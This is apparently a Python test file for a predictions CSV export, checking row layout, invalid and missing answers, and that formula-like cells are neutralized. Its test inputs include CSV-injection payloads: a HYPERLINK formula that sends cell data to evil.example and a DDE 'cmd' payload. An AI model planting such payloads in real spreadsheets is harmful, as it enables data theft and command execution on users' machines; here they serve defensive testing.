"""The predictions CSV: one row per eval row with each model's answer, and no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io

from bot.data.splits import PreparedRow
from bot.evaluate.export import INVALID, NO_ANSWER, predictions_csv, write_predictions
from bot.evaluate.scores import BASE, DISTILLED, TEACHER
from storage.completions import Completion

INPUTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    'A plain ticket, with a comma and "quotes"',
    "Déjà vu: ünïcödé stays as it is",
]
GOLD = ["Billing", "Network", "-Hardware", "Access", "Billing", "Network", "Access", None]
ROWS = [PreparedRow(i * 3, text, f"h{i}", gold) for i, (text, gold) in enumerate(zip(INPUTS, GOLD, strict=True))]
MODELS = {TEACHER: "gpt-4o", BASE: "gpt-4o-mini", DISTILLED: "ft:gpt-4o-mini:org::x"}


def answers() -> list[Completion]:
    found = []
    for role, model in MODELS.items():
        for row in ROWS:
            status = "ok"
            if role == BASE and row.row_index == 3:
                status = "invalid"
            if role == DISTILLED and row.row_index == 6:
                status = "failed"
            if role == DISTILLED and row.row_index == 9:
                continue  # never answered
            label = "=1+1" if role == TEACHER and row.row_index == 21 else "Billing"
            found.append(Completion(run_id=1, row_index=row.row_index, split="eval", role=role, model=model,
                                    request_hash=f"{role}{row.row_index}", status=status,
                                    parsed_label=label if status == "ok" else None))
    # a train answer for the same row must not be exported as an eval prediction
    found.append(Completion(run_id=1, row_index=0, split="train", role=TEACHER, model="gpt-4o", request_hash="t",
                            status="ok", parsed_label="Access"))
    return found


def parse(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark for Excel
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_one_row_per_eval_row_with_each_models_answer():
    table = parse(predictions_csv(ROWS, answers()))
    assert table[0] == ["row", "input", "gold", "teacher (gpt-4o)", "base student (gpt-4o-mini)",
                        "distilled student (ft:gpt-4o-mini:org::x)"]
    body = table[1:]
    assert [r[0] for r in body] == [str(r.row_index) for r in ROWS]
    assert body[0][3:] == ["Billing", "Billing", "Billing"]
    assert body[1][4] == INVALID  # the base student's answer was not one of the choices
    assert body[2][5] == NO_ANSWER and body[3][5] == NO_ANSWER  # failed, and never answered
    assert body[6][1] == INPUTS[6] and body[7][1] == INPUTS[7] and body[7][2] == ""


def test_formula_cells_are_neutralized_and_other_cells_left_alone():
    content = predictions_csv(ROWS, answers())
    body = parse(content)[1:]
    for row, text in zip(body, INPUTS, strict=True):
        dangerous = text[0] in "=+-@\t\r"
        assert row[1] == ("'" + text if dangerous else text)
    assert body[2][2] == "'-Hardware"  # a gold label is user data too
    assert body[7][3] == "'=1+1"  # and so is an answer
    lines = content.decode("utf-8-sig").split("\r\n")
    assert all(line.startswith('"') for line in lines if line)  # every cell quoted


async def test_written_to_the_run_folder(tmp_path):
    path = await write_predictions(tmp_path / "run-3", ROWS, answers())
    assert path == tmp_path / "run-3" / "predictions.csv"
    assert path.read_bytes() == predictions_csv(ROWS, answers())
    assert [p.name for p in path.parent.iterdir()] == ["predictions.csv"]
